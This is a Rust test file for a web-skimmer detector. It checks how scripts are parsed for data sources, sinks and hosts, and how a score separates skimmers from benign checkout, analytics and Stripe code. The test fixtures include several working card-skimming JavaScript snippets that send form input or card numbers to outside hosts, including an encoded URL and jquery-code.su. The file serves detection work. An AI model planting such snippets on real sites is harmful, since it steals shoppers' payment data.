use std::path::PathBuf;

use serde::Deserialize;

use super::*;
use crate::{base64, html};

/// From here on a script is taken for a skimmer, as the built-in configuration has it.
const SUSPECT: f64 = 0.6;

#[test]
fn says_what_a_script_can_do() {
    let check = |text: &str, sinks: &[&str], sources: &[&str], hosts: &[&str]| {
        let found = read(text);
        assert_eq!(found.sinks, sinks, "{text}");
        assert_eq!(found.sources, sources, "{text}");
        assert_eq!(found.hosts, hosts, "{text}");
    };
    check("fetch('https://a.example.net/x')", &["fetch"], &[], &["a.example.net"]);
    check("navigator['sendBeacon']('//b.example.net/')", &["beacon"], &[], &["b.example.net"]);
    check("var x = document.cookie", &[], &["cookies"], &[]);
    check("new Image().src='//c.example.'+'net/p'", &["image"], &[], &["c.example.net"]);
    check("// fetch('https://a.example.net')", &[], &[], &[]);
    check("x.value=document.getElementById('cardNumber')", &[], &["card-fields", "values"], &[]);
}

#[test]
fn shape_stays_where_names_and_literals_change() {
    let same = |a: &str, b: &str, want: bool| {
        assert_eq!(read(a).shape == read(b).shape, want, "{a} / {b}");
    };
    same("var a=1;f(a,'x')", "var  b = 2; g(b, \"y\") // c", true);
    same("var a=1;f(a,'x')", "var a=1;f(a,'x');h()", false);
    same("a.send(b)", "a.open(b)", false);
}

#[test]
fn tells_skimmers_from_other_scripts() {
    let check = |text: &str, suspect: bool| {
        let found = read(text);
        assert_eq!(found.skimmer_score >= SUSPECT, suspect, "{:?}\n{text}", found.indicators);
    };
    let encoded = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2c="; // https://collect.example.net/g
    check(
        &format!(
            "document.querySelectorAll('input').forEach(i=>i.addEventListener('blur',()=>fetch(atob('{encoded}'),{{method:'POST',body:i.value}})))"
        ),
        true,
    );
    check(
        "if(/checkout/.test(location.href)){var n=document.getElementById('cc_number');n.addEventListener('change',function(){new Image().src='https://jquery-code.su/?c='+n.value})}",
        true,
    );
    check(
        "var s=new WebSocket('wss://x.example.net');document.querySelector('#checkout').onsubmit=function(){s.send(document.getElementById('cardnumber').value)}",
        true,
    );
    check(
        "(function(){var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtm.js?id=GTM-1';document.head.appendChild(s)})()",
        false,
    );
    check("$('#newsletter').on('submit',function(){$.ajax({url:'/subscribe',data:$(this).serialize()})})", false);
    check(
        "function luhn(n){return n.split('').reverse().reduce((s,d)=>s+ +d,0)%10==0} document.getElementById('cardnumber').addEventListener('blur',e=>e.target.classList.toggle('bad',!luhn(e.target.value)))",
        false,
    );
    check(
        "var stripe=Stripe('pk_live_x');var card=stripe.elements().create('card');card.mount('#card-element');form.addEventListener('submit',e=>stripe.createToken(card).then(r=>{hidden.value=r.token.id;form.submit()}))",
        false,
    );
    check("navigator.sendBeacon('https://rum.example.net/v1',JSON.stringify(performance.getEntries()))", false);
}

#[derive(Deserialize)]
struct Sample {
    name: String,
    side: String,
    content_base64: String,
}

#[test]
fn tells_the_skimmers_of_the_corpus() {
    let root = std::env::var_os("RISKGRAPH_DATA")
        .map_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"), PathBuf::from);
    let Ok(text) = std::fs::read_to_string(root.join("leaks/skimmer_samples_half.jsonl")) else {
        println!("skipped: no corpus (set RISKGRAPH_DATA)");
        return;
    };
    let (mut n, mut missed) = (0, Vec::new());
    for line in text.lines() {
        let sample: Sample = serde_json::from_str(line).expect("a sample");
        if sample.side != "frontend" {
            continue;
        }
        let bytes = base64::decode(&sample.content_base64).expect("base64");
        let text = String::from_utf8_lossy(&bytes);
        let page = html::read(&text, "https://shop.example/").expect("a page");
        let only_tags = page.inline.is_empty() && !page.facts.scripts.is_empty();
        let scripts: Vec<String> =
            if text.contains("<script") && !page.inline.is_empty() { page.inline } else { vec![text.into_owned()] };
        // A tag that only names a host has no behaviour to read.
        if only_tags || scripts.iter().all(|script| script.trim().is_empty()) {
            continue;
        }
        n += 1;
        let best = scripts.iter().map(|script| read(script)).max_by(|a, b| a.skimmer_score.total_cmp(&b.skimmer_score));
        let best = best.expect("a script");
        if best.skimmer_score < SUSPECT {
            missed.push(format!(
                "{} {:.2} {:?} {:?} {:?} {:?}",
                sample.name, best.skimmer_score, best.indicators, best.sources, best.sinks, best.obfuscation
            ));
        }
    }
    println!("{n} scripts, {} missed\n{}", missed.len(), missed.join("\n"));
    assert!(missed.len() * 4 <= n, "{} of {n} missed:\n{}", missed.len(), missed.join("\n"));
}
